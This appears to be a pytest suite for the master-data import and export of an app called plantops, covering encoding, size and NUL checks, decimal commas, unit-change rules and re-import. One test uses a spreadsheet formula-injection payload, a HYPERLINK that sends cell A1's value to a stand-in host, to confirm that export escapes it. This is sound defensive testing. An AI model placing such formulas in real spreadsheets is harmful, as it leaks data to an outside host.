"""Files a user hands to the import, and what an import may change of what exists (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from plantops.bootstrap import PlantOps
from plantops.db.audit import AuditEntry
from plantops.db.catalog import Item
from plantops.errors import ImportRejectedError, PlantOpsError
from plantops.services import master_data
from plantops.services.master_data import files, records
from plantops.services.master_data.files import MAX_CELL_CHARACTERS
from tests.services.minimal_plant import MINIMAL_PLANT, write_plant

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.fixture
def plant(ops: PlantOps, tmp_path: Path) -> PlantOps:
    master_data.import_path(ops.uow(), write_plant(tmp_path / "plant"), posted_by="tester")
    return ops


def _units_folder(tmp_path: Path, content: bytes) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "units.csv").write_bytes(content)
    return folder


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("code,name,dimension,decimals\nm³,Kubikmeter é,volume,3\n".encode("latin-1"), "units.csv line 2: not UTF-8"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "units.csv line 1: not UTF-8"),
        (b"code,name\x00,dimension\n", "units.csv line 1: a NUL character"),
        (b"", "units.csv: the file is empty"),
        (b"code,name,dimension,decimals\nx," + b"y" * (MAX_CELL_CHARACTERS + 1) + b",count,0\n", "units.csv line 2"),
    ],
)
def test_a_file_that_is_no_utf8_csv_text_is_refused_naming_file_and_line(
    ops: PlantOps, tmp_path: Path, content: bytes, reason: str
) -> None:
    with pytest.raises(PlantOpsError) as refused:
        master_data.import_path(ops.uow(), _units_folder(tmp_path, content), posted_by="tester")
    assert str(refused.value).startswith(reason), refused.value
    assert not isinstance(refused.value, ImportRejectedError) or refused.value.problems


def test_a_utf16_file_with_its_byte_order_mark_is_read(ops: PlantOps, tmp_path: Path) -> None:
    content = "code,name,dimension,decimals\nm3,Kubikmeter é,volume,3\n".encode("utf-16")
    report = master_data.import_path(ops.uow(), _units_folder(tmp_path, content), posted_by="tester")
    assert report.inserted["units"] == 1


def test_a_decimal_comma_in_a_csv_is_refused_not_read_as_ten_times_the_number(ops: PlantOps, tmp_path: Path) -> None:
    folder = write_plant(tmp_path, {"units": 'code,name,dimension,decimals\npcs,pieces,count,"1,5"\n'})
    with pytest.raises(ImportRejectedError) as rejected:
        master_data.import_path(ops.uow(), folder, posted_by="tester")
    assert any(p.field == "decimals" and p.row == 2 for p in rejected.value.problems)


def test_a_nul_character_in_a_workbook_cell_is_refused(ops: PlantOps, tmp_path: Path) -> None:
    with pytest.raises(ImportRejectedError) as rejected:
        master_data.load(
            ops.uow(),
            {"units": [{"code": "pcs", "name": "pie\x00ces", "dimension": "count", "decimals": 0}]},
            source="memory",
            posted_by="tester",
        )
    assert [(p.field, p.reason) for p in rejected.value.problems] == [("name", "a NUL character is not text")]


@pytest.mark.parametrize("suffix", ["", ".xlsx"])
def test_a_name_that_a_spreadsheet_would_run_is_exported_escaped_and_reads_back_the_same(
    plant: PlantOps, tmp_path: Path, suffix: str
) -> None:
    records.update_record(
        plant.uow(),
        "items",
        ["BIKE"],
        {"name": FORMULA},
        version=records.get_record(plant.uow(), "items", ["BIKE"]).version,
        posted_by="tester",
    )
    exported = tmp_path / f"export{suffix}"
    master_data.export_path(plant.uow(), exported)

    if suffix:
        sheet = load_workbook(exported)["items"]
        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert [(c.value, c.data_type) for c in cells] == [("'" + FORMULA, "s")]
    else:
        with (exported / "items.csv").open(newline="", encoding="utf-8") as handle:
            names = [row["name"] for row in csv.DictReader(handle)]
        assert "'" + FORMULA in names and FORMULA not in names
    report = master_data.import_path(plant.uow(), exported, posted_by="tester")
    assert report.updated["items"] == 0
    assert records.get_record(plant.uow(), "items", ["BIKE"]).values["name"] == FORMULA


def _audit_updates(ops: PlantOps) -> int:
    with ops.uow() as uow:
        return uow.session.scalar(select(func.count()).select_from(AuditEntry).where(AuditEntry.action == "update"))


def test_reimporting_an_unchanged_export_changes_nothing_and_audits_nothing(plant: PlantOps, tmp_path: Path) -> None:
    master_data.export_path(plant.uow(), tmp_path / "out")
    before = _audit_updates(plant)
    report = master_data.import_path(plant.uow(), tmp_path / "out", posted_by="tester")
    assert sum(report.updated.values()) == 0 and sum(report.inserted.values()) == 0
    assert _audit_updates(plant) == before


def test_the_unit_of_an_item_with_stock_cannot_change_by_import_or_edit(plant: PlantOps, tmp_path: Path) -> None:
    items = MINIMAL_PLANT["items"].replace("BIKE,Bike,finished_good,pcs,", "BIKE,Bike,finished_good,box,")
    with pytest.raises(ImportRejectedError) as rejected:
        master_data.import_path(plant.uow(), write_plant(tmp_path / "b", {"items": items}), posted_by="tester")
    [problem] = rejected.value.problems
    assert (problem.source, problem.row, problem.field) == ("items.csv", 2, "unit")
    assert "stock moves" in problem.reason and "pcs" in problem.reason

    version = records.get_record(plant.uow(), "items", ["BIKE"]).version
    with pytest.raises(ImportRejectedError, match="unit"):
        records.update_record(plant.uow(), "items", ["BIKE"], {"unit": "box"}, version=version, posted_by="t")
    with plant.uow() as uow:
        assert uow.session.scalar(select(Item.unit_id).where(Item.code == "BIKE")) is not None
    assert records.get_record(plant.uow(), "items", ["BIKE"]).values["unit"] == "pcs"


def test_the_unit_of_an_item_without_history_may_change(plant: PlantOps) -> None:
    version = records.get_record(plant.uow(), "items", ["CREAM"]).version
    records.update_record(plant.uow(), "items", ["CREAM"], {"unit": "pcs"}, version=version, posted_by="t")
    assert records.get_record(plant.uow(), "items", ["CREAM"]).values["unit"] == "pcs"


def test_a_csv_file_over_the_size_bound_is_refused_before_it_is_read(
    ops: PlantOps, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = _units_folder(tmp_path, b"code,name,dimension,decimals\n" + b"x,y,count,0\n" * 100)
    monkeypatch.setattr(files, "MAX_CSV_BYTES", 1000)
    monkeypatch.setattr(Path, "read_bytes", lambda _path: pytest.fail("the file was read"))
    with pytest.raises(PlantOpsError, match=r"units.csv: 1,229 bytes, more than the 1,000 .* import its rows in parts"):
        master_data.import_path(ops.uow(), folder, posted_by="tester")
